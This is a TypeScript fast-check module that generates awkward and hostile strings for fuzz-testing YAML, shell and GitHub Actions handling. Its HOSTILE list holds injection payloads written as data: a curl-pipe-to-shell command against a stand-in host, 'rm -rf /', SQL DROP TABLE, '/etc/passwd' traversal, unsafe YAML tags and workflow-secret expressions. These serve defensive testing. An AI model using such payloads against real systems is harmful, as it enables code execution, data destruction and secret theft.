/** Strings that are legal and unpleasant, and strings that are hostile. */
import * as fc from 'fast-check';

/** Texts that some reader of YAML, shell or Markdown would like to take for something else. */
const UNPLEASANT = [
  'yes', 'no', 'on', 'off', 'y', 'N', 'true', 'False', 'null', '~', 'NULL', '0', '-1', '0x1F', '0o17', '017', '1e3', '1_000', '.5', '+.inf', '.nan', '12:30:45',
  '2024-01-01', '2001-12-14t21:59:43.10-05:00', '3.10', '1.0', '=', '<<', '!tag', '!!str x', '&anchor', '*alias', '|', '>', '>-', '?', '? key', '- item', '-', '--', '---', '...', '%TAG',
  '@at', '`tick`', '# comment', 'a # comment', 'a #not', 'a: b', 'a:', ': b', '[a, b]', '{a: b}', ']', '}', ',', 'a, b', '\'', '"', '\'\'', '""', 'it\'s', '"quoted"', 'a\\b', '\\', '\\n', 'C:\\Users',
  ' leading', 'trailing ', '  both  ', '\ttab', 'tab\t', 'a\tb', 'ends with:', 'ends with #', 'émigré', '日本語', '🚀', '👩‍👩‍👧', 'Ω ≈ ç', 'عربى', 'a\u00a0b', '\u200b', 'zero\u200dwidth',
  '$HOME', '$(id)', '${x}', '%PATH%', '!history', '&& true', '; true', '| cat', '> file', '*', '~root', '(sub)', '<b>', '&amp;', '../..', '/', '-rf', '--help', '{{ x }}', '}}', '{{', '$ {{', '$', '$$',
] as const;

/** One line, not empty, without control characters, without `${{`. */
export const oneLine: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...UNPLEASANT),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }),
  fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 60 }),
  fc.tuple(fc.constantFrom(...UNPLEASANT), fc.constantFrom(...UNPLEASANT)).map((parts) => parts.join(' ')),
).filter((text) => text.trim() !== '' && isLegal(text) && !text.includes('${{'));

/** Several lines, also empty ones, with any kind of end. */
export const manyLines: fc.Arbitrary<string> = fc.tuple(
  fc.array(fc.oneof(oneLine, fc.constant('')), { minLength: 1, maxLength: 5 }),
  fc.constantFrom('', '\n', '\n\n', ' \n', '\n '),
).map(([lines, end]) => lines.join('\n') + end).filter((text) => text.trim() !== '');

export const anyText = fc.oneof({ arbitrary: oneLine, weight: 4 }, { arbitrary: manyLines, weight: 1 });

/** Words of letters: where the content is of no interest. */
export const word = fc.constantFrom('alpha', 'beta', 'gamma', 'delta', 'epsilon', 'zeta', 'eta', 'theta');

export const envName = fc.tuple(fc.constantFrom('A', 'Db', '_x', 'LOG_LEVEL', 'camelCase', 'Z9'), fc.nat(9)).map(([name, n]) => `${name}_${n}`);

/** What no YAML file, environment variable or log can hold as it is. */
// eslint-disable-next-line no-control-regex
const ILLEGAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\ufeff\ufffe\uffff]|\p{Cs}/u;

function isLegal(text: string): boolean {
  return !ILLEGAL.test(text);
}

const LONG = 'x'.repeat(1_000_000);

/** What an attacker, a broken tool or an accident puts into a string. */
export const HOSTILE: readonly string[] = [
  ...UNPLEASANT,
  '', ' ', '\n', '\n\n\n', '\t', '\r', '\r\n', 'a\rb', 'a\r\nb\r\n', '\0', 'a\0b', '\x07', '\x1b[31mred\x1b[0m', '\x7f', '\x85', '\u2028', 'a\u2029b', '\ufeff', 'a\ufeffb', '\ufffe', '\uffff',
  '\ud800', 'a\udc00b', '\ud83d', '\u202eevil\u202c', '\u2066\u2069', 'a\u0301', '\u0000\u0001\u0002', '\v', '\f', '\b',
  '${{ github.token }}', '${{', '${{ }}', '${{ secrets.X', '}} ${{', '${{ github.event.issue.title }}', '${{ toJSON(secrets) }}', '$${{ x }}', '${{{ x }}}', '${{ \'}}\' }}',
  '$(curl evil | sh)', '`id`', '"; rm -rf /; "', '\'; DROP TABLE x; --', '\n---\nname: evil', '\n...\n', 'x\njobs:\n  evil: {}', 'a: b\nc: d', '- a\n- b', '# x\ny', ' # x', 'x #', '"\n"', '\'\n\'',
  '|\n x', '>\n x', '&a b', '*a', '<<: *a', '!!python/object:os.system x', '%YAML 1.1\n---', '\\\n', 'a \\', ' \n x', '\n x', 'x\n  y\n z', 'x \n', '\tx\n y', '\n\n x \n\n',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'undefined', '[object Object]', 'NaN', 'Infinity',
  '::set-output name=x::y', '::add-mask::x', '::stop-commands::x', '${Ref[x#0]}', '${Ref[output x of step y#999999]}', '${Ref[', '#0]}', '../../etc/passwd', '/etc/passwd', 'C:\\x', 'a/b', '.', '..', 'con', 'x'.repeat(300),
  'A'.repeat(5000), '\u00e9'.repeat(3000), '🚀'.repeat(2000), 'a\n'.repeat(3000), '\''.repeat(1000), '"'.repeat(1000), '\\'.repeat(1000), '${{ x }}'.repeat(300), '['.repeat(3000), ' '.repeat(3000), LONG,
];

/** A hostile string, or several in one, or anything at all of UTF-16. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE), weight: 5 },
  { arbitrary: fc.array(fc.constantFrom(...HOSTILE.filter((text) => text.length < 100)), { minLength: 2, maxLength: 4 }).map((parts) => parts.join('')), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 1 },
  { arbitrary: fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 20 }).map((units) => String.fromCharCode(...units)), weight: 1 },
);
